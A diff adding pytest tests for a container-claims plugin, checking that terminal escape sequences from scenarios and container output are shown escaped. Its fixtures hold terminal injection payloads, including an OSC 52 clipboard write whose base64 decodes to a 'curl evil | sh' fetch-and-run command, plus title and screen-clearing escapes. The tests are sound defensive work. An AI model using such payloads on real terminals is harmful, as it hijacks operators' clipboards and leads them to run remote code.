@@ -6,6 +6,8 @@ pytester's directory; the plugin is loaded through its entry point as users get 
 
 from __future__ import annotations
 
+import re
+
 import pytest
 
 from container_claims.results import VERDICTS
@@ -484,3 +486,87 @@ def test_evidence_shows_the_steps_with_their_templates_filled_in(
     (record,) = project.json()["results"]
     steps = [step["step"] for step in record["evidence"]["steps"]]
     assert steps[1:] == ["typed 'echo 1 fake'", "probe host.which program=sh1"]
+
+
+#: A scenario whose words carry terminal escapes (YAML's double-quoted escapes: \e is ESC,
+#: \a BEL, \x9b the one-byte CSI), and a container whose output does: OSC 52 writes the
+#: operator's clipboard, OSC 0 the window title, CSI 2J clears the screen.
+HOSTILE = r"""
+scenario: hostile
+section: "Shell\e]0;pwned\a"
+source: "An article\e[2J"
+container: {command: [/bin/bash], tty: true, interactive: true}
+steps:
+  - run: {command: [printf, clipboard]}
+    save: printed
+  - exec: [cat, /title]
+    save: titled
+claims:
+  - id: printed-ok
+    says: "It prints ok.\e]52;c;Y3VybCBldmlsIHwgc2g=\a"
+    expect:
+      - that: printed
+        equals: ok
+  - id: titled-ok
+    says: "The title is ok.\x9b2J"
+    expect:
+      - that: titled
+        equals: ok
+"""
+HOSTILE_SCRIPT = {
+    "run": {"printf clipboard": "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07done\x1bP1$qm\x1b\\"},
+    "exec": {"cat /title": "\x9d0;title\x9c\x1b_Gf=100\x1b\\\r\nsecond line"},
+}
+#: What must not reach the terminal raw: C0 (but newline and tab), DEL and C1.
+CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
+
+
+def test_failure_text_and_matrix_show_escapes_from_scenarios_and_containers(
+    project: Project,
+) -> None:
+    project.scenario("hostile.yaml", HOSTILE)
+    project.script(fake=HOSTILE_SCRIPT)
+
+    result = project.run("--color=no", "-rA")
+
+    result.assert_outcomes(failed=2)
+    out = result.stdout.str() + result.stderr.str()
+    assert CONTROLS.findall(out) == []
+    result.stdout.fnmatch_lines(
+        [
+            r"  says: It prints ok.\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
+            r"       observed: \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07done\x1bP1$qm\x1b\*",
+            r"  says: The title is ok.\u009b2J",
+            r"       observed: \u009d0;title\u009c\x1b_Gf=100\x1b\*",
+            "second line",
+            r"Shell\x1b]0;pwned\x07:",
+        ]
+    )
+    data = project.json()  # the JSON keeps the exact text
+    says = {r["claim"]: r["says"] for r in data["results"]}
+    assert says["titled-ok"] == "The title is ok.\x9b2J"
+    assert data["results"][0]["section"] == "Shell\x1b]0;pwned\x07"
+    step = data["results"][0]["evidence"]["steps"][0]
+    assert step["value"]["output"] == HOSTILE_SCRIPT["run"]["printf clipboard"]
+
+
+def test_could_not_observe_shows_the_escapes_of_the_reason(project: Project) -> None:
+    project.scenario("shell.yaml", SHELL)
+    project.script(fake={"start_fails": "docker: \x1b]0;pwned\x07\x9b2J refused"})
+
+    result = project.run("--color=no", "-k", "shell-is-pid-1")
+
+    result.assert_outcomes(errors=1, deselected=2)
+    assert CONTROLS.findall(result.stdout.str() + result.stderr.str()) == []
+    result.stdout.fnmatch_lines([r"*could not observe:*docker: \x1b]0;pwned\x07\u009b2J refused*"])
+    (record,) = project.json()["results"]
+    assert "\x1b]0;pwned\x07\x9b2J" in record["message"]
+
+
+def test_an_invalid_scenarios_line_shows_its_escapes(project: Project) -> None:
+    project.scenario("bad.yaml", 'section: Broken\nclaims:\n  - {id: "a\\e]0;t\\a", says: x}\n')
+
+    result = project.run("--color=no")
+
+    assert result.ret == 2
+    assert CONTROLS.findall(result.stdout.str() + result.stderr.str()) == []
